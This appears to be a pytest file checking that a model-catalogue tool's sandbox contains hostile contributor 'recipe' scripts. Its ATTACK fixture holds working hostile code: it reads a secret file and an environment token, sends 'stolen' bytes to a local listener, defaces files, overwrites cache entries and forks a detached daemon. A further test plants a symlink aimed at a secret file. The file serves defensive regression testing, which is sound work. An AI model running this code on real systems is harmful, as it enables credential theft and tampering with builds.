"""Recipes are contributor code: each attack of issue 12 (class 2) is tried by a real recipe and shown blocked.

A recipe runs through `modelshelf export` as in CI, in the sandbox's jail (bubblewrap): it cannot
read outside its folder or the build's environment, reach a listener on the machine, write outside
its OUTDIR, leave a process behind or stall the build, and it runs under memory, CPU, file-size and
process limits. The build alone writes the cache and checks each entry before it uses it.
"""
from __future__ import annotations

import hashlib
import json
import logging
import os
import socket
import textwrap
import time
from pathlib import Path

import pytest
from click.testing import CliRunner

from modelshelf.generator import sandbox
from modelshelf.generator.cli import main

pytestmark = pytest.mark.skipif(sandbox.jail_problem() is not None and not os.environ.get("CI"),
                                reason=f"no sandbox here: {sandbox.jail_problem()}")

CARD = textwrap.dedent('''\
    id: acme/{name}
    name: Relu
    version: "1.0.0"
    summary: Clips negatives to zero.
    description: A recipe-built test model.
    task: tabular-regression
    license: MIT
    authors: [{{name: Test}}]
    framework: onnx
    source: {{recipe: recipe.py}}
    inputs: [{{name: x, dtype: float32, shape: [null, 2]}}]
    outputs: [{{name: y, dtype: float32, shape: [null, 2]}}]
''')

WRITE_MODEL = textwrap.dedent('''
    import sys
    from pathlib import Path
    from onnx import TensorProto, helper, save
    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [None, 2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [None, 2])
    graph = helper.make_graph([helper.make_node("Relu", ["x"], ["y"])], "relu", [x], [y])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    save(model, str(Path(sys.argv[1]) / "model.onnx"))
''')

# Tries every attack of class 2, records what worked in OUTDIR/attack.json, then writes a valid model.
ATTACK = textwrap.dedent('''
    import glob, json, os, resource, socket, subprocess, sys, time
    out, found = sys.argv[1], {{}}
    def attempt(name, action):
        try:
            found[name] = action()
        except (OSError, KeyError) as exc:
            found[name] = "blocked: " + type(exc).__name__
    attempt("secret file", lambda: open({secret!r}).read())
    attempt("environment", lambda: os.environ["MODELSHELF_TEST_TOKEN"])
    attempt("listener", lambda: socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen") or "sent")
    attempt("site", lambda: open({site!r}, "w").write("defaced"))
    attempt("models folder", lambda: open({model_folder!r} + "/recipe.py", "a").write("# planted"))
    def overwrite_cache():
        hits = glob.glob({cache!r} + "/recipes/*/model.onnx")
        for path in hits:
            open(path, "wb").write(b"planted")
        return hits or "nothing visible"
    attempt("cache", overwrite_cache)
    recipe_pid = os.getpid()
    if os.fork() == 0:  # a daemon that would deface the site after the build said "site written"
        os.setsid()
        if os.fork() == 0:
            # Only once the recipe has ended: what it writes into OUTDIR while it runs is its output.
            for _ in range(200):
                try:
                    os.kill(recipe_pid, 0)
                except ProcessLookupError:
                    break
                time.sleep(0.05)
            for _ in range(30):
                time.sleep(0.1)
                for path in ({site!r}, out + "/late"):
                    try:
                        open(path, "w").write("daemon")
                    except OSError:
                        pass
        os._exit(0)
    subprocess.Popen(["sleep", "300"])  # a grandchild that holds stdout open
    try:
        bytearray(12 << 30)
        found["memory"] = "12 GB"
    except MemoryError:
        found["memory"] = "blocked: MemoryError"
    found["limits"] = {{name: resource.getrlimit(getattr(resource, name))[0]
                       for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NPROC")}}
    json.dump(found, open(out + "/attack.json", "w"))
''') + WRITE_MODEL


def _project(tmp_path: Path) -> tuple[Path, Path]:
    models, cache = tmp_path / "models", tmp_path / "cache"
    folder = models / "acme" / "relu"
    folder.mkdir(parents=True)
    (folder / "card.yaml").write_text(CARD.format(name="relu"))
    (folder / "recipe.py").write_text(WRITE_MODEL)
    return models, cache


def _export(models: Path, cache: Path, model_id: str) -> tuple[int, str]:
    result = CliRunner().invoke(main, ["export", model_id, "--models-dir", str(models), "--cache-dir", str(cache)])
    return result.exit_code, result.output


def _entry(cache: Path, name: str) -> Path:
    for meta in (cache / "recipes").glob("*/meta.json"):
        if json.loads(meta.read_text())["id"] == f"acme/{name}":
            return meta.parent
    raise AssertionError(f"no cache entry for acme/{name}")


def _sha(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_hostile_recipe_is_contained(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Regression (issue 12, class 2): every attack a recipe made on the build machine is blocked."""
    models, cache = _project(tmp_path)
    code, output = _export(models, cache, "acme/relu")
    assert code == 0, output
    other = _sha(_entry(cache, "relu") / "model.onnx")

    site = tmp_path / "site" / "index.html"
    site.parent.mkdir()
    site.write_text("site written")
    (tmp_path / "secret").write_text("s3cret")
    monkeypatch.setenv("MODELSHELF_TEST_TOKEN", "s3cret")
    hostile = models / "acme" / "hostile"
    hostile.mkdir()
    (hostile / "card.yaml").write_text(CARD.format(name="hostile"))
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.settimeout(0.5)
        (hostile / "recipe.py").write_text(ATTACK.format(secret=str(tmp_path / "secret"), port=server.getsockname()[1],
                                                         site=str(site), model_folder=str(hostile), cache=str(cache)))
        recipe = (hostile / "recipe.py").read_text()
        start = time.monotonic()
        code, output = _export(models, cache, "acme/hostile")
        seconds = time.monotonic() - start
        assert code == 0, output
        with pytest.raises(TimeoutError):
            server.accept()  # nothing ever connected

    assert seconds < 60, "a grandchild holding stdout must not stall the build"
    entry = _entry(cache, "hostile")
    found = json.loads((entry / "attack.json").read_text())
    assert {k: v for k, v in found.items() if k != "limits"} == {
        "secret file": "blocked: FileNotFoundError",
        "environment": "blocked: KeyError",
        "listener": "blocked: ConnectionRefusedError",
        "site": "blocked: FileNotFoundError",
        "models folder": "blocked: FileNotFoundError",
        "cache": "nothing visible",
        "memory": "blocked: MemoryError",
    }
    limits = found["limits"]
    assert limits["RLIMIT_AS"] == 8192 << 20 and limits["RLIMIT_FSIZE"] == 2048 << 20 and limits["RLIMIT_CPU"] > 0
    if os.geteuid() == 0:
        assert limits["RLIMIT_NPROC"] == 512
    time.sleep(3.5)  # the daemon's whole life, had it survived
    assert site.read_text() == "site written"
    assert not (entry / "late").exists()
    assert (hostile / "recipe.py").read_text() == recipe
    assert _sha(_entry(cache, "relu") / "model.onnx") == other
    code, output = _export(models, cache, "acme/relu")
    assert code == 0, output
    assert _sha(_entry(cache, "relu") / "model.onnx") == other


def test_a_cache_entry_that_does_not_match_its_manifest_is_discarded(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """Regression: an overwritten cache entry was published as a cache hit."""
    caplog.set_level(logging.INFO)
    models, cache = _project(tmp_path)
    assert _export(models, cache, "acme/relu")[0] == 0
    entry = _entry(cache, "relu")
    good = _sha(entry / "model.onnx")
    (entry / "model.onnx").write_bytes(b"planted")
    code, output = _export(models, cache, "acme/relu")
    assert code == 0, output
    assert f"discarding the cache entry {entry}: model.onnx does not match the SHA-256 its manifest records" in caplog.text
    assert "recipe of acme/relu took" in caplog.text and "recipe cache hit" not in caplog.text
    assert _sha(entry / "model.onnx") == good

    # An entry copied under another key (the manifest names the key it was made for) is discarded too.
    forged = entry.with_name("0" * 64)
    forged.mkdir()
    for f in entry.iterdir():
        (forged / f.name).write_bytes(f.read_bytes())
    assert sandbox_verify(forged) == f"its manifest is for the key {entry.name[:12]}, not {'0' * 12}"


def sandbox_verify(entry: Path) -> str | None:
    from modelshelf.generator.enrich.recipes import verify_entry

    return verify_entry(entry, "model.onnx")


def test_recipe_output_must_be_regular_files(tmp_path: Path) -> None:
    """A symbolic link in OUTDIR would have the build (as root) publish a file of its choice: refused, nothing cached."""
    models, cache = _project(tmp_path)
    (tmp_path / "secret").write_text("s3cret")
    (models / "acme" / "relu" / "recipe.py").write_text(
        f"import os, sys\nos.symlink({str(tmp_path / 'secret')!r}, os.path.join(sys.argv[1], 'model.onnx'))\n")
    code, output = _export(models, cache, "acme/relu")
    assert code == 1
    assert ("recipe recipe.py finished but model.onnx in OUTDIR is a symbolic link; write regular files only" in output), output
    assert not list((cache / "recipes").glob("*/model.onnx"))


def test_without_a_sandbox_the_build_refuses_recipes_unless_trusted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    models, cache = _project(tmp_path)
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))  # no bwrap
    monkeypatch.delenv(sandbox.TRUST_VARIABLE, raising=False)
    sandbox.jail_problem.cache_clear()
    try:
        code, output = _export(models, cache, "acme/relu")
        assert code == 1
        assert ("recipe recipe.py not run: no sandbox for contributor code: bwrap is not installed (Debian and Ubuntu: "
                "apt-get install bubblewrap)\n  hint: install bubblewrap (apt-get install bubblewrap) so that contributor "
                "code runs in a sandbox, or set MODELSHELF_TRUST_SCRIPTS=1 if you trust every recipe and evaluation script"
                in output), output
        assert not (cache / "recipes").exists() or not list((cache / "recipes").iterdir())
        monkeypatch.setenv(sandbox.TRUST_VARIABLE, "1")
        code, output = _export(models, cache, "acme/relu")
        assert code == 0, output
    finally:
        sandbox.jail_problem.cache_clear()
